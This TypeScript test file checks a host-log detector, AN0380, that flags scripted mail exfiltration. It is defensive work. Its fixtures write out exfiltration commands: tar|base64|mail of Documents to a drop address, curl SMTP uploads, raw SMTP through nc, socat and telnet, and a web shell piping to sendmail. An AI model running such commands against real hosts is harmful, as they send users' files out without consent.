import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { DAY, HOUR, HostLog, MINUTE, SECOND } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import {
  factorsOf,
  firesAt,
  inOrder,
  linksHold,
  recording,
  scanFolder,
  scanLog,
  storyOf,
  strengthsOf,
  valuesOf,
} from '../an0656-phishing-attachment-executed/stories.test-support.ts';

const MX = '203.0.113.25';
const DROP = 'drop@example.net';

/** A host on which files and connections are recorded, and which delivers mail for example.org. */
function host(): HostLog {
  const log = new HostLog();
  log.shell('ops').run('/usr/bin/vim notes.txt').write('/home/ops/notes.txt');
  log.service('/usr/sbin/chronyd').connect('198.51.100.1', 123);
  log.deliver();
  log.wait(MINUTE);
  return log;
}

/** A program hands a message to sendmail(1), and Postfix takes it. */
function handsIn(log: HostLog, program: Process | undefined, to: string, size: number, user = 'clerk'): string {
  program?.run(`/usr/sbin/sendmail -i ${to}`).run('/usr/sbin/postdrop -r');
  return log.submitted(user, to, size);
}

test('recorded: a script of cron attaches an archive with mutt; job, sender, queue id and fate are told', async () => {
  const truth = recording('an0380-scripted-mail-transmission/fires.mutt-attach-devnull');
  const alert = firesAt((await scanFolder(truth.folder)).alerts, 'AN0380', 'medium');
  const queueId = valuesOf(alert, 'message')[0] as string;
  assert.ok(truth.submissions(1004).includes(queueId), 'handed in by this uid');
  linksHold(alert);
  inOrder(alert, [
    ['process.started', 'cron job begins', truth.pid('run')],
    ['process.started', truth.path('hand-over'), truth.pid('hand-over'), ' -a '],
    ['mail.submitted', queueId],
    ['mail.delivered', queueId, 'desk9@example.net'],
  ]);
  assert.deepEqual(strengthsOf(alert, 'submission'), ['inferred']);
  assert.deepEqual(strengthsOf(alert, 'queue-id'), ['observed']);
  assert.deepEqual(valuesOf(alert, 'host'), [truth.host]);
  assert.deepEqual(valuesOf(alert, 'user'), [truth.user]);
  assert.deepEqual(valuesOf(alert, 'recipient'), ['desk9@example.net']);
  assert.equal(valuesOf(alert, 'file').length, 1);
  assert.ok(alert.story.includes('1 confirmed'));
});

test('recorded: a renamed mailer started by at', async () => {
  const truth = recording('an0380-scripted-mail-transmission/fires.renamed-mailer-at-job');
  const alert = firesAt((await scanFolder(truth.folder)).alerts, 'AN0380', 'medium');
  linksHold(alert);
  inOrder(alert, [
    ['process.started', 'at job begins'],
    ['process.started', truth.path('sendmail'), truth.pid('sendmail'), 'base64'],
    ['mail.submitted', valuesOf(alert, 'message')[0] as string],
    ['mail.delivered', 'fonts@example.com'],
  ]);
});

test('recorded: perl speaks SMTP to the local MTA', async () => {
  const truth = recording('an0380-scripted-mail-transmission/fires.perl-net-smtp');
  const alert = firesAt((await scanFolder(truth.folder)).alerts, 'AN0380', 'medium');
  linksHold(alert);
  inOrder(alert, [
    ['process.started', 'at job begins'],
    ['process.started', truth.pid('run'), 'post.pl'],
    ['network.connected', truth.path('submit')],
  ]);
  assert.ok(factorsOf(alert).includes('speaks SMTP itself, to a server of this host'));
  assert.ok(alert.steps.some(step => step.kind === 'mail.delivered' && step.summary.includes('notes@example.net')));
});

test('recorded: curl uploads to a foreign server; python connects to one', async () => {
  const curl = recording('an0380-scripted-mail-transmission/fires.curl-smtp-upload');
  const upload = firesAt((await scanFolder(curl.folder)).alerts, 'AN0380', 'high');
  inOrder(upload, [
    ['process.started', 'job begins', curl.pid('send')],
    ['process.started', curl.pid('connect'), '--upload-file'],
    ['network.connected', curl.path('connect')],
  ]);
  assert.deepEqual(valuesOf(upload, 'address'), [curl.path('connect')]);
  assert.ok(upload.missing.some(text => text.includes('passed the local MTA by')));
  const python = recording('an0380-scripted-mail-transmission/fires.python-smtplib-direct');
  const direct = firesAt((await scanFolder(python.folder)).alerts, 'AN0380', 'medium');
  inOrder(direct, [
    ['process.started', 'job begins', python.pid('start')],
    ['process.started', python.pid('connect')],
    ['network.connected', python.path('connect')],
  ]);
  assert.deepEqual(valuesOf(direct, 'user'), [python.user]);
});

test('recorded: tar, base64 and mail in a crontab', async () => {
  const truth = recording('an0380-scripted-mail-transmission/fires.cron-tar-base64-mail');
  const alert = firesAt((await scanFolder(truth.folder)).alerts, 'AN0380', 'medium');
  inOrder(alert, [
    ['process.started', 'cron job begins', truth.pid('pack')],
    ['process.started', truth.pid('hand-over'), 'fed by base64, tar'],
  ]);
  assert.ok(truth.submissions(1005).includes(valuesOf(alert, 'message')[0] as string));
});

test('cron: tar, base64, mail; medium when small, high when large', async () => {
  for (const [size, severity] of [
    [9000, 'medium'],
    [900_000, 'high'],
  ] as const) {
    const log = host();
    const job = log.cron('clerk', `tar czf - Documents | base64 | mail -s x ${DROP}`);
    const stages = job.pipeline('/usr/bin/tar czf - Documents', '/usr/bin/base64', `/usr/bin/mail -s x ${DROP}`);
    const queueId = handsIn(log, stages[2], DROP, size);
    const alert = storyOf(await scanLog(log), 'AN0380');
    assert.equal(alert.severity, severity);
    linksHold(alert);
    inOrder(alert, [
      ['process.started', 'cron job begins'],
      ['process.started', '/usr/bin/mail', 'base64, tar'],
      ['mail.submitted', queueId, `${size} bytes`],
      ['mail.delivered', queueId, DROP],
    ]);
    const settings = { TransferSizeThreshold: size + 1 };
    const scanned = storyOf(await scanLog(log, { settings }), 'AN0380');
    assert.ok(!factorsOf(scanned).includes('large payload'));
    assert.deepEqual(
      scanned.wouldChange.find(change => change.setting === 'TransferSizeThreshold'),
      {
        weight: 2,
        what: `a message, or all together, reached TransferSizeThreshold (${size + 1} bytes)`,
        why: `the largest has ${size} bytes`,
        setting: 'TransferSizeThreshold',
      },
    );
    const met = storyOf(await scanLog(log, { settings: { TransferSizeThreshold: size } }), 'AN0380');
    assert.deepEqual(met.factors.find(factor => factor.name === 'large payload')?.tunable, {
      name: 'TransferSizeThreshold',
      met: `${size} bytes`,
      limit: `${size} bytes`,
    });
  }
});

test('uuencode and mailx; mutt -a of a job; mutt -a behind nohup at a terminal', async () => {
  const uuencode = host();
  const [, mailx] = uuencode.cron('clerk', 'x').pipeline('/usr/bin/uuencode a a', `/usr/bin/mailx ${DROP}`);
  handsIn(uuencode, mailx, DROP, 9000);
  const attached = host();
  const command = `mutt -s x -a /tmp/a.zip -- ${DROP}`;
  handsIn(attached, attached.cron('clerk', `${command} </dev/null`).run(`/usr/bin/${command}`), DROP, 9000);
  const detached = host();
  const nohup = detached.shell('clerk').run(`/usr/bin/nohup ${command}`);
  handsIn(detached, nohup.exec(`/usr/bin/${command}`), DROP, 9000);
  for (const log of [uuencode, attached, detached]) firesAt(await scanLog(log), 'AN0380', 'medium');
  assert.deepEqual(valuesOf(storyOf(await scanLog(attached), 'AN0380'), 'file'), ['/tmp/a.zip']);
  assert.ok(storyOf(await scanLog(detached), 'AN0380').story.includes('a detached job'));
});

test('custom SMTP from any program counts: swaks, curl, shells, interpreters, nc', async () => {
  const commands: (readonly [string | readonly string[], string?])[] = [
    [`/usr/bin/swaks --to ${DROP} --server ${MX} --attach @/tmp/a.zip`, '/usr/bin/perl'],
    [`/usr/bin/curl smtp://${MX} --mail-from a@example.org --mail-rcpt ${DROP} --upload-file /tmp/a`],
    ['/home/clerk/.sync', '/bin/bash'],
    [['/usr/bin/python3', '-c', `import smtplib; smtplib.SMTP("${MX}")`]],
    ['/usr/bin/ruby /tmp/p.rb'],
    ['/usr/bin/node /tmp/p.js'],
    [`/usr/bin/openssl s_client -starttls smtp -connect ${MX}:25`],
    [`/usr/bin/nc ${MX} 25`],
    [`/usr/bin/socat - TCP:${MX}:25`],
    [`/usr/bin/telnet ${MX} 25`],
  ];
  for (const [command, by] of commands) {
    const log = host();
    const program = log.cron('clerk', 'job').run(command, by === undefined ? {} : { by });
    program.connect(MX, 25);
    const alert = firesAt(await scanLog(log), 'AN0380', 'medium');
    assert.ok(valuesOf(alert, 'address').includes(`${MX}:25`), String(command));
    inOrder(alert, [['network.connected', `${MX}:25`]]);
  }
});

test('python with smtplib under nohup, which outlives its session', async () => {
  const log = host();
  const script = log.shell('clerk').run('/usr/bin/nohup python3 w.py').exec('/usr/bin/python3 w.py').read('w.py');
  log.wait(HOUR);
  script.orphan().connect(MX, 587);
  const alert = firesAt(await scanLog(log), 'AN0380', 'medium');
  assert.ok(alert.story.includes('a detached job of clerk'));
});

test('a static binary straight to an MX, over IPv6 and on port 2525', async () => {
  const six = host();
  six.service('/home/clerk/.x', 'clerk').connect('2001:db8::25', 25);
  const alert = firesAt(await scanLog(six), 'AN0380', 'medium');
  assert.ok(valuesOf(alert, 'address').includes('[2001:db8::25]:25'));
  const other = host();
  const binary = other.shell('clerk').run('/tmp/.x');
  other.wait(MINUTE);
  binary.orphan().connect(MX, 2525);
  firesAt(await scanLog(other), 'AN0380', 'medium');
});

test('a renamed mailer of a user, by at and by a timer, is low without a payload and medium with one', async () => {
  for (const start of [(log: HostLog) => log.at('clerk'), (log: HostLog) => log.service('/bin/sh', 'clerk')]) {
    for (const [stages, severity] of [
      [[`/home/clerk/.local/bin/fontcache -s x ${DROP}`], 'low'],
      [['/usr/bin/base64 a', `/home/clerk/.local/bin/fontcache -s x ${DROP}`], 'medium'],
    ] as const) {
      const log = host();
      handsIn(
        log,
        start(log)
          .pipeline(...stages)
          .at(-1),
        DROP,
        9000,
      );
      firesAt(await scanLog(log), 'AN0380', severity);
    }
  }
});

test('a web shell mails like nothing before', async () => {
  const log = host();
  const server = log.service('/usr/sbin/apache2 -k start', 'www-data');
  const shell = server.run(['/bin/sh', '-c', '/usr/sbin/sendmail -t -i']);
  shell.exec('/usr/sbin/sendmail -t -i').run('/usr/sbin/postdrop -r');
  const queueId = log.submitted('www-data', DROP, 700_000);
  const alert = firesAt(await scanLog(log), 'AN0380', 'medium');
  inOrder(alert, [
    ['process.started', 'sendmail -t -i'],
    ['mail.submitted', queueId],
    ['mail.delivered', DROP],
  ]);
  assert.ok(alert.story.includes('a web job of www-data'));
});

test('many small messages to one recipient: the sum and the number count', async () => {
  const quick = host();
  const script = quick.cron('clerk', '/home/clerk/s.sh').run('/home/clerk/s.sh', { by: '/bin/sh' });
  for (let i = 0; i < 30; i++) {
    quick.wait(25 * SECOND);
    handsIn(quick, script.pipeline('/usr/bin/split x', `/usr/bin/mail -s p ${DROP}`)[1], DROP, 40_000);
  }
  const sum = firesAt(await scanLog(quick), 'AN0380', 'high');
  for (const name of ['large in sum', 'many messages to one recipient']) assert.ok(factorsOf(sum).includes(name), name);
  const slow = host();
  for (let i = 0; i < 30; i++) {
    slow.wait(5 * MINUTE);
    const run = slow.cron('clerk', '/home/clerk/s.sh').run('/home/clerk/s.sh', { by: '/bin/sh' });
    handsIn(slow, run.run(`/usr/bin/mail -s p ${DROP}`), DROP, 4000);
  }
  const number = firesAt(await scanLog(slow), 'AN0380', 'medium');
  assert.ok(factorsOf(number).includes('many messages to one recipient'));
});

test('other ways in: msmtp, ssmtp, s-nail, exim -t, busybox, postdrop, a file in the queue', async () => {
  for (const command of [
    '/usr/bin/msmtp -t',
    `/usr/sbin/ssmtp ${DROP}`,
    `/usr/bin/s-nail -S mta=smtp://x -a /tmp/a ${DROP}`,
    '/usr/sbin/exim4 -t',
    `/bin/busybox sendmail ${DROP}`,
  ]) {
    const log = host();
    log.cron('clerk', 'job').pipeline('/usr/bin/base64 /tmp/a', command)[1]?.connect(MX, 25);
    firesAt(await scanLog(log), 'AN0380', 'low');
  }
  const postdrop = host();
  postdrop.cron('clerk', 'job').pipeline('/bin/cat /home/clerk/f', '/usr/sbin/postdrop -r');
  postdrop.submitted('clerk', DROP, 90_000);
  firesAt(await scanLog(postdrop), 'AN0380', 'low');
  const file = host();
  const queued = '/var/spool/postfix/maildrop/AB';
  file.cron('root', 'cp').run(`/bin/cp /tmp/AB ${queued}`).read('/tmp/AB').write(queued);
  file.submitted('root', DROP, 90_000);
  storyOf(await scanLog(file), 'AN0380');
});

test('a report that was always alike and now goes elsewhere with an archive', async () => {
  const log = host();
  const send = (to: string, size: number): void => {
    log.wait(DAY);
    const script = log.cron('ops', '/home/ops/bin/report').run('/home/ops/bin/report', { by: '/bin/sh' });
    handsIn(log, script.run(`/usr/bin/mail -s report ${to}`), to, size, 'ops');
  };
  for (let i = 0; i < 6; i++) send('ops@example.org', 4000 + i);
  send(DROP, 900_000);
  const alert = firesAt(await scanLog(log), 'AN0380', 'high');
  assert.ok(factorsOf(alert).includes('unlike what this job sent before'));
});

test('without a mail log the attempt is told, and that its fate is not known', async () => {
  const log = host();
  const stages = log
    .cron('clerk', `tar c x | base64 | mail ${DROP}`)
    .pipeline('/usr/bin/tar c x', '/usr/bin/base64', `/usr/bin/mail ${DROP}`);
  stages[2]?.run(`/usr/sbin/sendmail -i ${DROP}`);
  const alert = storyOf(await scanLog(log, { mail: false }), 'AN0380');
  assert.equal(alert.severity, 'medium');
  assert.ok(alert.story.includes('1 attempted'));
  assert.ok(alert.missing.some(text => text.includes('No MTA log')));
  assert.deepEqual(strengthsOf(alert, 'submission'), ['unavailable']);
});
